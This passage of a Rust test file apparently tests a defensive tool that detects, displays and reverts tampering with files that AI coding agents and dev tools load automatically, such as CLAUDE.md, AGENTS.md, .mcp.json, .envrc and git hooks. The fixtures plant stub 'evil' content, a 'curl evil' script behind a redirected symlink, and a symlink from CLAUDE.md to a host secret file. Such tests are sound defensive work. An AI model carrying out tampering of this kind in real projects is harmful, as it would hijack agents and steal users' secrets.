    let of_the_user = "of the user\n".repeat(5000);
    g.write("a/b/c/CLAUDE.md", &of_the_user);
    g.write("a/b/c/.envrc", &of_the_user);
    // Nothing of it is settled: all is read again.
    g.look(false).keep(&[], &[]).unwrap();
    // More than is kept of texts, and more than is read: all of it lies higher.
    for n in 0..140 {
        g.write(format!(".claude/{n}.md"), format!("{n} ").repeat(60_000 / format!("{n} ").len()));
    }
    for n in 0..70 {
        g.write(format!("x{n}/AGENTS.md"), vec![b'x'; 1 << 20]);
    }
    g.write("a/b/c/CLAUDE.md", "evil");
    let look = g.look(false);
    let changes = look.changes();
    assert!(look.gaps().iter().any(|line| line.contains("too many bytes")), "{:?}", look.gaps());
    let old: Vec<&Change> = changes.iter().filter(|change| change.path().starts_with("a")).collect();
    assert_eq!(old.len(), 1, "what was there is compared whatever is new: {old:?}");
    look.keep(&old, &old).unwrap();
    // All that is new is accepted: what was there first can be put back all the same.
    for name in ["a/b/c/CLAUDE.md", "a/b/c/.envrc"] {
        g.write(name, "evil");
    }
    let said = g.undo(Undo::Restore);
    let same = |name| g.read(name) == of_the_user;
    assert!(same("a/b/c/CLAUDE.md") && same("a/b/c/.envrc"), "{said:#?}");
}

#[test]
fn what_is_set_aside_lies_where_no_tool_obeys_it_also_out_of_a_directory_of_which_all_counts() {
    let g = Ground::new();
    g.write(".claude/commands/mine.md", "of the user");
    g.keep();
    g.write(".claude/commands/evil.md", "evil");
    g.write(".claude/commands/mine.md", "evil");
    g.write(format!(".vscode/{}", "x".repeat(250)), "evil");
    g.write("sub/.husky/pre-commit", "evil");
    // Another row takes any end of its name.
    g.write("Dockerfile.code-workspace", "evil");
    fs::create_dir_all(g.at(".mcp.json/inner")).unwrap();
    g.write(".mcp.json/inner/AGENTS.md", "evil");
    // Something of an agent's in the place of the directory for it.
    symlink("/tmp", g.at("codex-sandbox-set-aside")).unwrap();
    let said = g.undo(Undo::Restore);
    assert!(said.iter().all(|line| !line.starts_with("not: ")), "{said:#?}");
    assert_eq!(g.read(".claude/commands/mine.md"), "of the user");
    for dir in [".claude/commands", ".vscode", "sub/.husky"] {
        let names: Vec<_> = fs::read_dir(g.at(dir)).unwrap().flatten().map(|one| one.file_name()).collect();
        assert!(names.iter().all(|name| name == "mine.md"), "{dir}: {names:?}");
    }
    assert_eq!(fs::read_dir(g.at("codex-sandbox-set-aside-2")).unwrap().count(), 5, "{said:#?}");
    assert!(g.at("codex-sandbox-set-aside-2/asideDockerfile.code-workspace.set-aside-1").exists(), "{said:#?}");
    assert!(g.at("codex-sandbox-set-aside-2/sub+.husky+pre-commit.set-aside-1").exists(), "{said:#?}");
    assert!(!g.at(".mcp.json").exists() && g.at(".mcp.json.set-aside-1/inner/AGENTS.md.set-aside-1").exists());
    assert_eq!((g.told(), g.undecided()), (Vec::<String>::new(), Vec::<String>::new()));
}

#[test]
fn where_a_symlink_leads_and_what_lies_there_is_shown_and_put_back() {
    let (g, host) = (Ground::new(), tempfile::tempdir().unwrap());
    fs::write(host.path().join("secret"), "of the host").unwrap();
    g.write("env.sh", "export A=1\n");
    g.write("evil.sh", "curl evil\n");
    symlink("env.sh", g.at(".envrc")).unwrap();
    symlink("env.sh", g.at(".exrc")).unwrap();
    g.write("CLAUDE.md", "of the user\n");
    g.write(".vscode/tasks.json", "of the user\n");
    g.write("gone/.mcp.json", "of the user\n");
    g.keep();
    fs::remove_file(g.at(".envrc")).unwrap();
    symlink("evil.sh", g.at(".envrc")).unwrap();
    g.write("env.sh", "export A=2\n");
    fs::remove_file(g.at("CLAUDE.md")).unwrap();
    symlink(host.path().join("secret"), g.at("CLAUDE.md")).unwrap();
    // Directories that become symlinks: in the workspace, and out of it.
    fs::rename(g.at(".vscode"), g.at("tools")).unwrap();
    symlink("tools", g.at(".vscode")).unwrap();
    g.write("tools/tasks.json", "evil\n");
    fs::rename(g.at("gone"), g.at("away")).unwrap();
    fs::write(host.path().join(".mcp.json"), "of the host").unwrap();
    symlink(host.path(), g.at("gone")).unwrap();
    let look = g.look(false);
    let told = look.told(&look.changes());
    let shown = |name: &str| {
        let told = told.lines.iter().find(|(line, _)| line.starts_with(&format!("`{name}`")));
        told.map(|(_, shown)| shown.clone()).unwrap_or_default()
    };
    assert_eq!(shown(".envrc"), ["- a symlink to `env.sh`", "+ a symlink to `evil.sh`", "- export A=1", "+ curl evil"]);
    assert_eq!(shown(".exrc"), ["- export A=1", "+ export A=2"]);
    assert_eq!(shown("CLAUDE.md"), [format!("+ a symlink to `{}`", host.path().join("secret").display())]);
    assert_eq!(shown(".vscode"), ["+ a symlink to `tools`"]);
    assert_eq!(shown(".vscode/tasks.json"), ["- of the user", "+ evil"]);
    let said = g.undo(Undo::Restore);
    assert_eq!(fs::read_link(g.at(".envrc")).unwrap(), Path::new("env.sh"), "{said:#?}");
    assert_eq!((g.read("env.sh"), g.read("CLAUDE.md")), ("export A=1\n".into(), "of the user\n".into()));
    assert!(!g.at(".vscode").is_symlink() && g.read(".vscode/tasks.json") == "of the user\n", "{said:#?}");
    // Nothing was followed out of the workspace.
    assert!(said.iter().any(|line| line.starts_with("not: `gone/.mcp.json` lies behind a symlink to")), "{said:#?}");
    assert_eq!(fs::read_dir(host.path()).unwrap().count(), 2);
    assert_eq!(fs::read_to_string(host.path().join(".mcp.json")).unwrap(), "of the host");
}
